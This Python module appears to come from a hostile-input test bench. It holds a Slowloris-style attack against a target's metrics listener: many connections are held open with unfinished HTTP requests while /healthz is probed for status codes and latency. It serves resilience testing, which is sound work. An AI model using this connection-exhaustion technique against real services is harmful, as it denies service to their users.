"""Requests to the metrics listener that are never completed; the oldest make room for others."""

from __future__ import annotations

import asyncio
import random
import time
from collections import Counter
from typing import Final

from bench.hostile.target import Target

COUNT = 64
SHORT = 64

_PROBES: Final = 20
_PAUSE_S: Final = 0.25


async def attack(target: Target, _rng: random.Random, count: int) -> str:
    """Attack, ask for /healthz meanwhile, and say what it answered."""
    host, _, port = target.metrics_address.rpartition(":")
    held = []
    for _ in range(count):
        _, writer = await asyncio.open_connection(host, int(port))
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: node\r\n")
        held.append(writer)
    answers: Counter[str] = Counter()
    slowest_s = 0.0
    for _ in range(_PROBES):
        began_s = time.monotonic()
        answers[await _probe(host, int(port))] += 1
        slowest_s = max(slowest_s, time.monotonic() - began_s)
        await asyncio.sleep(_PAUSE_S)
    for writer in held:
        writer.close()
    told = ", ".join(f"{number} with {code}" for code, number in answers.items())
    return f"{_PROBES} probes of /healthz were answered {told}, the slowest in {slowest_s:.2f} s"


async def _probe(host: str, port: int) -> str:
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: node\r\nConnection: close\r\n\r\n")
        line = await asyncio.wait_for(reader.readline(), 10.0)
    except (ConnectionError, TimeoutError):
        return "nothing"
    finally:
        writer.close()
    return line.decode("ascii", "replace").split(" ")[1] if line else "nothing"
